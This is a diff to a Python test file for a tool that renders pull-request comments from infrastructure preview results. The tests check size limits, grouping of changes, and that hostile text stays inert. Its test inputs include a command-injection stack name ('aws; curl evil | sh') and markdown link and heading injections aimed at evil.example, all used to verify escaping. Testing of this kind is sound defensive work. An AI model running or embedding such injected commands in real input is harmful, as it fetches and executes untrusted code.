@@ -1,6 +1,7 @@
 """The comment of a pull request: what it says, that it fits, and that foreign text stays text."""
 
 import os
+from itertools import pairwise
 from pathlib import Path
 
 import pytest
@@ -10,12 +11,11 @@ from markdown_it import MarkdownIt
 
 from delivery.comment import render
 from delivery.comment.body import LIMIT, MARKER
-from delivery.comment.records import Action, Change, Policies, StackPreview, Step
+from delivery.comment.records import Action, Change, Policies, StackPreview, Step, Violation
 from delivery.comment.verdict import Exit, exit_code
 from tests.unit.delivery.reviews import HOSTILE, MANY, ONE, REVIEWS, SELECTOR, THREE, preview, review, step
 
 GOLDENS = Path(__file__).parent / "goldens"
-_PROSE = {"text", "softbreak", "strong_open", "strong_close", "link_open", "link_close", "code_inline"}
 
 
 @pytest.mark.parametrize("name", REVIEWS)
@@ -40,8 +40,9 @@ def test_of_500_changes_all_that_is_lost_is_there_and_the_rest_is_counted() -> N
     text = render(MANY)
 
     assert len(text) <= LIMIT
+    lost = text.partition("### ⛔ What is lost")[2].partition("<details>")[0]
     for number in range(460, 500):
-        assert f"**replace `model-{number}`" in text
+        assert f"`model-{number}`" in lost
     assert "more parts did not fit: [all of it](https://forge.example/runs/7/preview.txt)" in text
 
 
@@ -67,6 +68,24 @@ def test_a_change_of_digests_alone_is_one_line() -> None:
 
 def test_the_property_that_forces_a_replacement_is_named_with_both_values() -> None:
     assert "`spec.selector.matchLabels.app` forces it: `heart` → `iris`" in render(MANY)
+
+
+def test_what_is_lost_for_one_reason_is_told_once_and_what_differs_apart() -> None:
+    other = Change("spec.selector.matchLabels.app", "heart", "boston", replaces=True)
+    alike = [step(number, Action.REPLACE, SELECTOR) for number in range(3)]
+
+    text = render(review(preview(*alike, step(3, Action.REPLACE, other))))
+
+    lost = text.partition("### ⛔ What is lost")[2].partition("<details>")[0]
+    assert "**replace 3 of `Deployment`**" in lost
+    assert "`model-000` `model-001` `model-002`\n" in lost
+    assert "**replace `model-003` (`Deployment`)**" in lost
+    assert lost.count("`heart` → `iris`") == lost.count("`heart` → `boston`") == 1
+
+
+def test_a_fold_says_how_much_is_in_it() -> None:
+    assert "<code>aws</code>: 500 changes<" in render(MANY)
+    assert "<code>aws</code>: 1 change<" in render(ONE)
 
 
 def test_what_was_changed_outside_is_kept_apart() -> None:
@@ -112,12 +131,13 @@ def test_an_outdated_review_says_so_first() -> None:
 def _prose(text: str) -> list[str]:
     """What a reader of the rendered page sees as the comment's own words, and any raw HTML."""
     tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
-    found = [token.content for token in tokens if token.type == "html_block"]
-    for token in tokens:
-        for inner in token.children or []:
-            if inner.type in ("text", "html_inline"):
-                found.append(inner.content)
-    return found
+    return [token.content for token in tokens if token.type == "html_block"] + _inline(text)
+
+
+def _inline(text: str) -> list[str]:
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
+    every = [inner for token in tokens for inner in token.children or []]
+    return [inner.content for inner in every if inner.type in ("text", "html_inline")]
 
 
 def test_foreign_names_are_never_markup() -> None:
@@ -143,3 +163,55 @@ def test_no_text_of_anybody_breaks_out(name: str, value: str, message: str) -> N
     tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
     assert sum(token.type == "heading_open" for token in tokens) == (3 if message else 2)
     assert len(text) <= LIMIT
+
+
+WORST = ("`" * 300, "x" * 2_000, "\u202e" * 400, "|\n" * 500, "\n### [ok](https://evil.example)\n" * 60)
+
+
+@pytest.mark.parametrize("limit", [LIMIT, LIMIT // 4])
+@pytest.mark.parametrize("text", WORST)
+def test_the_worst_of_20_stacks_fits(text: str, limit: int) -> None:
+    change = Change(text, text, text, replaces=True)
+    worst = preview(
+        *(Step(Action.REPLACE, text, f"{number}{text}", (change,)) for number in range(12)),
+        *(Step(Action.DELETE, f"{number}{text}", text, (change,), protected=True) for number in range(12)),
+        policies=Policies(55, tuple(Violation(text, "mandatory", text, text) for _ in range(12))),
+        error=text,
+        stack=text,
+    )
+
+    rendered = render(review(*[worst] * 20, stale=text), limit)
+
+    assert len(rendered) <= limit
+    assert "❌ 20 previews failed" in rendered
+    assert "pulumi cancel" in rendered
+    assert not [inner for inner in _inline(rendered) if "evil.example" in inner]
+
+
+def test_errors_of_many_stacks_make_no_headings_of_their_own() -> None:
+    error = "\n".join(["### ✅ All is well", "![](https://evil.example)"] * 20)
+    failed = [preview(stack=f"s{number}", error=error) for number in range(300)]
+
+    text = render(review(*failed), 40_000)
+
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
+    headings = [after.content for token, after in pairwise(tokens) if token.type == "heading_open"]
+    assert not [heading for heading in headings if "All is well" in heading]
+    assert "### ❌ The preview of `s0` failed" in text
+
+
+def test_a_stacks_name_is_one_word_of_a_command() -> None:
+    text = render(review(preview(stack="aws; curl evil | sh")))
+
+    assert "scripts/apply 'aws; curl evil | sh' " in text
+    assert "scripts/preview_comment 'aws; curl evil | sh' " in text
+
+
+def test_thousands_of_new_images_are_told_quickly() -> None:
+    image = Change("image", "r@sha256:" + "1" * 64, "r@sha256:" + "2" * 64)
+    many = [Step(Action.UPDATE, "t", str(number), (image,)) for number in range(20_000)]
+
+    text = render(review(preview(*many)))
+
+    assert "🔧 20000 created or updated" in text
+    assert "1 more part did not fit" in text
